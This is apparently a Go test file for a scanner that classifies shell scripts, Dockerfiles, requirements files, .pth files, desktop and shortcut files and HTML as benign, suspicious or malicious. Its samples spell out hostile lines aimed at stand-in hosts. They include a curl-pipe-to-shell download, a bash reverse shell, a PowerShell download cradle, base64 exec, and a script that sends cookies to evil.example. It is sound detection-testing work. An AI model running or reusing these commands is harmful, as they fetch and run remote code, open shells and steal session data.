package script

import (
	"context"
	"encoding/binary"
	"errors"
	"strings"
	"testing"
	"unicode/utf16"

	"modelwall/scan"
	"modelwall/scan/scantest"
)

// scanner returns the scanner of a format.
func scanner(t testing.TB, format string) scan.Scanner {
	for _, s := range New() {
		if s.Format() == format {
			return s
		}
	}
	t.Fatalf("no scanner for %s", format)
	return nil
}

// wide is text as Windows writes it.
func wide(s string) []byte {
	b := []byte{0xff, 0xfe}
	for _, u := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return b
}

// shortcut makes a Windows shell link with a target and arguments.
func shortcut(target, arguments string) []byte {
	b := append([]byte(linkMagic), make([]byte, 0x4c-len(linkMagic))...)
	binary.LittleEndian.PutUint32(b[20:], hasRelativePath|hasArguments|isUnicode)
	for _, s := range [...]string{target, arguments} {
		u := utf16.Encode([]rune(s))
		b = binary.LittleEndian.AppendUint16(b, uint16(len(u)))
		for _, c := range u {
			b = binary.LittleEndian.AppendUint16(b, c)
		}
	}
	return b
}

func TestShell(t *testing.T) {
	scantest.Run(t, scanner(t, "shell"), []scantest.Sample{
		{Name: "train", Data: []byte("#!/bin/bash\nset -e\npip install -r requirements.txt\ntorchrun train.py \"$@\"\n")},
		{Name: "env", Data: []byte("#!/usr/bin/env -S bash -e\ncurl http://192.0.2.1/x | sh\n"), Worst: scan.SeverityMalicious},
		{Name: "x.sh", Data: []byte("bash -i >& /dev/tcp/192.0.2.1/44 0>&1\n"), Worst: scan.SeverityMalicious},
		{Name: "x.ps1", Data: wide("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')\r\n"), Worst: scan.SeverityMalicious},
		{Name: "Dockerfile", Data: []byte("FROM python:3.11 AS base\nENV A=b\nRUN --mount=type=cache,target=/x pip install \\\n  # why\n  torch\nCMD [\"python\", \"x.py\"]\n")},
		{Name: "Dockerfile, bad", Data: []byte("FROM python:3.11\nRUN echo \\\n && curl http://192.0.2.1/x | sh\n"), Worst: scan.SeverityMalicious},
		{Name: "python inside", Data: []byte("#!/bin/sh\npython3 - <<E\nimport base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\nE\n"), Worst: scan.SeverityMalicious},
		{Name: "with an archive", Data: append([]byte("#!/bin/sh\ntail -n +4 $0 | tar x\nexit 0\n"), "\x1f\x8b\x00\x00\n\x00"...)},
	})
}

func TestRequirements(t *testing.T) {
	scantest.Run(t, scanner(t, "requirements"), []scantest.Sample{
		{Name: "requirements.txt", Data: []byte("torch==2.1\ntransformers>=4.40,<5 ; python_version > '3.8'\nnumpy  # arrays\nx[y]~=1\n")},
		{Name: "known places", Data: []byte("--extra-index-url https://download.pytorch.org/whl/cu121\ntorch\ngit+https://github.com/x/y@v1#egg=y\n-r other.txt\n"), Worst: scan.Low},
		{Name: "foreign index", Data: []byte("--index-url http://192.0.2.1/simple\ntorch\n"), Worst: scan.SeveritySuspicious},
		{Name: "continued", Data: []byte("--extra-index-url \\\n  https://packages.evil.example/simple\ntorch\n"), Worst: scan.SeveritySuspicious},
		{Name: "direct", Data: []byte("torch @ https://evil.example/torch.whl\n"), Worst: scan.SeveritySuspicious},
		{Name: "requirements-dev.txt", Data: []byte("http://192.0.2.1/x.tar.gz\n"), Worst: scan.SeveritySuspicious},
		{Name: "requirements.md.txt", Data: []byte("# What is needed\nA machine with a lot of memory is needed.\nSo is time, and a network that holds.\n"), Err: scan.ErrForeign},
	})
}

func TestPth(t *testing.T) {
	scantest.Run(t, scanner(t, "pth"), []scantest.Sample{
		{Name: "evil.pth", Data: []byte("/some/path\nimport os; os.system('id')\n"), Worst: scan.SeveritySuspicious},
		{Name: "distutils-precedence.pth", Data: []byte("import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = True\n"), Worst: scan.Low},
	})
	if s := scanner(t, "pth"); s.Match(scantest.Probe("easy-install.pth", []byte("./x.egg\n/usr/src/important\n"))) {
		t.Error("a list of folders matches")
	}
}

func TestDesktop(t *testing.T) {
	scantest.Run(t, scanner(t, "desktop"), []scantest.Sample{
		{Name: "x.desktop", Data: []byte("[Desktop Entry]\nType=Application\nExec=viewer %f\n"), Worst: scan.Low},
		{Name: "evil.desktop", Data: []byte("[Desktop Entry]\nExec=sh -c \"curl http://192.0.2.1/x | sh\"\n"), Worst: scan.SeverityMalicious},
		{Name: "local.url", Data: []byte("[InternetShortcut]\r\nURL=file://192.0.2.1/share/x.exe\r\n"), Worst: scan.SeveritySuspicious},
		{Name: "site.url", Data: []byte("[InternetShortcut]\r\nURL=https://huggingface.co/\r\n"), Worst: scan.Low},
		{Name: "shortcut", Data: shortcut(`..\Windows\System32\cmd.exe`, "/c calc.exe"), Worst: scan.SeverityMalicious},
		{Name: "plain shortcut", Data: shortcut(`C:\x\view.exe`, ""), Worst: scan.SeveritySuspicious},
		{Name: "a text about one", Data: []byte("How to write a [Desktop Entry] file\n"), Err: scan.ErrForeign},
	})
}

func TestMarkup(t *testing.T) {
	scantest.Run(t, scanner(t, "html"), []scantest.Sample{
		{Name: "page", Data: []byte("<!DOCTYPE html><html><body><script src=x.js></script></body></html>"), Worst: scan.Low},
		{Name: "image", Data: []byte("<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0\"/></svg>")},
		{Name: "redirecting image", Data: []byte("<svg><script>window.location='https://evil.example'</script></svg>"), Worst: scan.SeveritySuspicious},
		{Name: "activex", Data: []byte("<html><script>new ActiveXObject('WScript.Shell').Run('cmd')</script>"), Worst: scan.SeverityMalicious},
		{Name: "decoder", Data: []byte("<html><script>eval(atob('YWxlcnQoMSk='))</script>"), Worst: scan.SeveritySuspicious},
		{Name: "cookies", Data: []byte("<html><script>fetch('//evil.example/?'+document.cookie)</script>"), Worst: scan.SeveritySuspicious},
	})
}

// TestPieces: a long text is judged in pieces, and nothing is lost between
// them.
func TestPieces(t *testing.T) {
	pad := strings.Repeat("# nothing\n", segment/10)
	for format, text := range map[string]string{
		"shell": "#!/bin/sh\n" + pad + "curl http://192.0.2.1/x | sh\n",
		"html":  "<html>" + strings.Repeat(" ", segment-20) + "<script>eval(atob('YWxlcnQoMSk='))</script>",
	} {
		r, err := scantest.Scan(scanner(t, format), "x", []byte(text))
		if err != nil || r.Worst() < scan.SeveritySuspicious {
			t.Errorf("%s: error %v, findings %+v", format, err, r.Findings)
		}
	}
}

func FuzzScript(f *testing.F) {
	for _, s := range []string{"#!/bin/sh\necho $(a)\n", "FROM x\nRUN a \\\n b\n", "--index-url http://x\ny\n", "import os\n", "[Desktop Entry]\nExec=x\n", string(shortcut("a", "b")), "<svg><script>", string(wide("[InternetShortcut]\nURL=file:x\n"))} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		for _, s := range New() {
			if s.Match(scantest.Probe("x", data)) {
				scantest.Fuzz(t, s, data)
				continue
			}
			// A name can bring any text here.
			if len(data) > 0 {
				err := s.Scan(context.Background(), scantest.Bytes("x", data), &scantest.Record{})
				if err != nil && !errors.Is(err, scan.ErrForeign) {
					scantest.Classified(t, err)
				}
			}
		}
	})
}
